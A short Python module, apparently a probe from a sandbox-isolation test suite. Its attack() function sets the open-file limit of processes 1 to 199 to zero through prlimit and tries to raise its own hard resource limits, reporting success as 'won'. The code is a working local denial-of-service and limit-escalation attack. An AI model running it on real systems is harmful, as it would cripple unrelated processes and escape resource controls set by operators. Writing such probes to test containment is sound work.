"""Take away the limits of others, and lift one's own."""
import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    won = False
    for pid in range(1, 200):
        if pid != os.getpid():
            try:
                resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0))
                won = True
            except (OSError, ValueError):
                pass
    for name in ("RLIMIT_NPROC", "RLIMIT_CPU", "RLIMIT_AS", "RLIMIT_FSIZE"):
        kind = getattr(resource, name)
        hard = resource.getrlimit(kind)[1]
        if hard != resource.RLIM_INFINITY:
            try:
                resource.setrlimit(kind, (hard + 1, hard + 1))
                won = True
            except (OSError, ValueError):
                pass
    return won
